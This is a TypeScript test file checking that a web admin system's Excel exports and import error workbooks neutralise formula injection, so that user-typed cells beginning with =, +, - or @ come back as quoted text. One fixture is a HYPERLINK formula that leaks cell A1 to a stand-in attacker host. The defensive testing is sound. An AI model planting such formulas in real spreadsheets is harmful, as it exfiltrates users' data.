import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { systemContext } from '../../src/server/app-services.js';
import { deptIds } from '../support/add-user.js';
import { waitForJob, xlsxUpload, type Headers } from '../support/jobs.js';
import { withSignedInApp } from '../support/signed-in-app.js';
import type { TestApp } from '../support/test-app.js';

let t: TestApp;
let admin: Headers;
withSignedInApp((app, headers) => { t = app; admin = headers; });

const tag = () => randomBytes(3).toString('hex');
/** What a user typed: a formula that, once the cell is opened, edited or saved as CSV, sends a click to the attacker. */
const formula = (id: string) => `=HYPERLINK("http://evil.example/?leak=" & A1, "open ${id}")`;
/** The same for fields that hold ten characters at most. */
const short = (id: string) => `=1+${id}`;

type Cells = ExcelJS.Cell[] & { file: Buffer };

/** Every cell of the first sheet of the workbook a request answers, as exceljs reads it back (and the file). */
async function cellsOf(request: { method: 'GET' | 'POST'; url: string; payload?: Record<string, unknown> }): Promise<Cells> {
  const res = await t.app.inject({ ...request, headers: admin });
  expect(res.statusCode, res.body).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const cells = Object.assign([] as ExcelJS.Cell[], { file: res.rawPayload });
  workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

/** The file of a finished export job started with `payload`. */
async function exportJob(payload: Record<string, unknown>): Promise<Cells> {
  const started = await t.call({ method: 'POST', url: '/api/atrium/jobs/export', headers: admin, payload });
  expect(started.status, JSON.stringify(started.body)).toBe(200);
  const job = await waitForJob(t, admin, started.body.data.id);
  expect(job.state, job.error).toBe('done');
  return cellsOf({ method: 'GET', url: `/api/atrium/jobs/${job.id}/file` });
}

/** The cell holding `typed` (with or without the guard), which must be that text with a leading `'`, no formula. */
function guardedCell(cells: ExcelJS.Cell[], typed: string): ExcelJS.Cell {
  const cell = cells.find((c) => typeof c.value === 'string' && c.value.endsWith(typed));
  expect(cell, `a cell with ${typed}`).toBeDefined();
  expect(cell!.value).toBe(`'${typed}`);
  expect(cell!.type).toBe(ExcelJS.ValueType.String);
  expect(cell!.formula).toBeUndefined();
  return cell!;
}

async function submit(path: string, payload: Record<string, unknown>): Promise<string> {
  const res = await t.call({ method: 'POST', url: `/api${path}/submit`, headers: admin, payload });
  expect(res.body.code, JSON.stringify(res.body)).toBe(200);
  return String(res.body.data?.id ?? '');
}

describe('exported cells that would start a formula', () => {
  it('a notice titled =HYPERLINK(...) is exported as that text with a leading \' (exceljs reads a string, not a formula), and the file imports back the title as typed', async () => {
    const id = tag();
    const titles = [formula(id), `+${id} 1+1`, `-${id} 2+3`, `@${id} SUM(1)`];
    for (const title of titles) await submit('/blade-desk/notice', { title, category: 1, releaseTime: '2025-03-01 08:00:00' });
    const cells = await exportJob({ model: 'desk/notice', query: { title: id }, columns: 'title,category,releaseTime' });
    for (const title of titles) guardedCell(cells, title);

    await sql`update blade_notice set is_deleted = 1 where title like ${`%${id}%`}`.execute(t.services.system.database.db);
    const upload = xlsxUpload(cells.file);
    const imported = await t.call({ method: 'POST', url: '/api/atrium/jobs/import', query: { model: 'desk/notice' }, headers: { ...admin, ...upload.headers }, payload: upload.payload });
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect(await waitForJob(t, admin, imported.body.data.id)).toMatchObject({ state: 'done', written: titles.length });
    const back = await sql<{ title: string }>`select title from blade_notice where is_deleted = 0 and title like ${`%${id}%`}`.execute(t.services.system.database.db);
    expect(back.rows.map((r) => r.title).sort()).toEqual([...titles].sort());
  });

  it('the users\' exports (synchronous and job) write a real name =1+... the same way', async () => {
    const id = tag();
    const roles = await t.services.system.repo.list(t.services.model('system/role'), systemContext(), { conditions: [], order: [] });
    const roleId = String(roles.find((r) => r.roleAlias === 'user')!.id);
    await submit('/blade-user', { account: `fx${id}`, name: 'n', realName: short(id), password: 'pw', roleId, deptId: (await deptIds(t.services))['布雷德科技'] });
    guardedCell(await cellsOf({ method: 'GET', url: `/api/blade-user/export-user?account=fx${id}` }), short(id));
    guardedCell(await exportJob({ model: 'system/user', query: { account: `fx${id}` } }), short(id));
  });

  it('the regions\' exports (synchronous and job) write a name =1+... the same way, and a negative sort stays a number', async () => {
    const id = tag();
    await submit('/blade-system/region', { code: '320497', parentCode: '3204', name: short(id), regionLevel: 3, sort: -7 });
    for (const cells of [await cellsOf({ method: 'GET', url: '/api/blade-system/region/export-region' }), await exportJob({ model: 'base/region' })]) {
      const name = guardedCell(cells, short(id));
      const sort = cells.find((c) => c.row === name.row && c.value === -7);
      expect(sort?.type, 'the sort in the same row, as a number').toBe(ExcelJS.ValueType.Number);
    }
  });

  it('a report export writes a worker named =HYPERLINK(...) the same way, and an unpaid amount below zero stays a number', async () => {
    const id = tag();
    const item = await submit('/blade-manage/iteminfo', { itemCode: `FX-${id}`, itemName: `fx item ${id}` });
    const worker = await submit('/blade-manage/worker', { workerName: formula(id) });
    await submit('/blade-manage/wage', { wageMonth: '2025-02-01', itemId: item, workerId: worker, amount: 100, paidAmount: 150, workDays: 1 });
    const cells = await cellsOf({ method: 'POST', url: '/api/blade-manage/report/workerWagesExport', payload: { startDate: '2025-02-01', endDate: '2025-02-28', itemId: item } });
    const name = guardedCell(cells, formula(id));
    const unpaid = cells.find((c) => c.row === name.row && c.value === -50);
    expect(unpaid?.type, 'the unpaid amount in the same row, as a number').toBe(ExcelJS.ValueType.Number);
  });

  it('the error workbooks of imports (job and synchronous users) give such texts back the same way', async () => {
    const id = tag();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('x').addRows([['通知标题', '通知类型', '通知日期'], [formula(id), '不存在的类型', '2025-03-01 08:00:00']]);
    const upload = xlsxUpload(Buffer.from(await workbook.xlsx.writeBuffer()));
    const started = await t.call({ method: 'POST', url: '/api/atrium/jobs/import', query: { model: 'desk/notice' }, headers: { ...admin, ...upload.headers }, payload: upload.payload });
    expect(started.status, JSON.stringify(started.body)).toBe(200);
    expect(await waitForJob(t, admin, started.body.data.id)).toMatchObject({ state: 'done', failed: 1 });
    guardedCell(await cellsOf({ method: 'GET', url: `/api/atrium/jobs/${started.body.data.id}/file` }), formula(id));

    const users = new ExcelJS.Workbook();
    users.addWorksheet('x').addRows([['登录账号', '用户昵称', '用户姓名', '所属角色', '所属部门', '用户平台'], [`fx${id}`, 'n', short(id), '用户', '没有这个部门', 'WEB']]);
    const sync = xlsxUpload(Buffer.from(await users.xlsx.writeBuffer()));
    const refused = await t.call({ method: 'POST', url: '/api/blade-user/import-user', headers: { ...admin, ...sync.headers }, payload: sync.payload });
    expect(refused.status, JSON.stringify(refused.body)).toBe(400);
    guardedCell(await cellsOf({ method: 'GET', url: refused.body.data.errorWorkbook.url }), short(id));
  });
});
